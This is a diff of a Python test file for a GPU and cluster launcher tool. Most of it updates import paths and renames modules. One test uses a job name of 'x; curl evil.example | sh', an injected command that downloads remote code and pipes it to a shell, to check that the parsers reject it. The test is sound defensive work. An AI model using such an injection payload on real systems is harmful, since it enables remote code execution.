@@ -9,23 +9,23 @@ from typing import Any
 
 import pytest
 
-from launcher.checks import serving
-from launcher.checks.ray import read_payload
-from launcher.discovery import local_assets
-from launcher.errors import UnreadableAnswer
-from launcher.model import Answer
-from launcher.plan import network
-from launcher.state import running
+from launcher.batch import job_store
+from launcher.core.domain import Answer
+from launcher.core.errors import UnreadableAnswer
+from launcher.hosts.discovery import local_assets
+from launcher.network import network_plan
 from launcher.tools import (
     docker_read,
     gpu_survey,
     head_answer,
     host_read,
-    job_store,
     pairs,
     ray,
+    running,
+    serving_judges,
     vllm,
 )
+from launcher.tools.ray_judges import read_payload
 from tests import kept
 from tests.hostile import seeds
 
@@ -96,12 +96,12 @@ def test_figures_that_are_none() -> None:
     assert vllm.raised("") is None
     assert ray.parse_status(usage("1.2.3/4 GPU")).gpus_total is None
     assert (
-        serving.busy_gpus(
+        serving_judges.busy_gpus(
             {"groups": rows({"state": "CREATED", "bundles": 5}), "actors": rows({"state": "ALIVE"})}
         )
         == 0
     )
-    assert serving.claimed({"metadata": {job_store.GPUS: "inf"}}) == 0
+    assert serving_judges.claimed({"metadata": {job_store.GPUS: "inf"}}) == 0
 
 
 def test_a_name_that_is_a_command() -> None:
@@ -109,8 +109,8 @@ def test_a_name_that_is_a_command() -> None:
     job = seeds.job("batch-1", {job_store.NAME: "x; curl evil.example | sh", job_store.GPUS: "1"})
     row = {**kept.one(kept.wanted()), "name": "x; curl evil.example | sh"}
     assert running.holders(kept.said(row)) == []
-    assert serving.job_holders({"jobs": [job]}) == []
-    assert serving.batches({"jobs": [job]}) == []
+    assert serving_judges.job_holders({"jobs": [job]}) == []
+    assert serving_judges.batches({"jobs": [job]}) == []
 
 
 def test_files_that_are_less_than_nothing() -> None:
@@ -122,7 +122,7 @@ def test_files_that_are_less_than_nothing() -> None:
 def test_a_report_of_another_node() -> None:
     """Counts for none."""
     said = json.dumps({"node": "gpu02", "backend": "gloo"})
-    assert network.read({"gpu01": [answer(said)]}) == (
+    assert network_plan.read({"gpu01": [answer(said)]}) == (
         {},
         {"gpu01": "the network probe answered for another node"},
     )
